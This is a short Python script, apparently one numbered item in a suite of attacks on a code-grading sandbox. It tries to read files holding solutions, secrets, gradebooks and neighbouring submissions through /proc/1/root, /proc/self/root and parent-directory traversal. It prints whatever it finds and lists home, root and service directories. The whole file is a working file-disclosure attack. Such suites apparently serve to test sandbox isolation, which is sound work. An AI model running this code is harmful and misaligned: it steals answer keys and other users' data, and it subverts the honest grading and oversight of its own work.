# attack: 31
# title: the files of tests, solutions and secret are opened by their paths
# success: their content stands in the output
# naive: leak
import glob
import os

paths = ["@SOLUTION@", "@SECRET@", "@TABLE@", "@GRADEBOOK@", "@NEIGHBOUR@", "@RESULT@"]
roots = ["", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../../../..", "/.."]
for path in paths:
    for root in roots:
        try:
            with open(root + path, "rb") as file:
                print(path, file.read().decode("latin-1")[:300_000])
                break
        except OSError:
            pass
for pattern in ("/root/*", "/home/*/*", "/srv/*", "/var/lib/*", "../../*"):
    for path in glob.glob(pattern)[:20]:
        print(path)
print(os.listdir("/"))
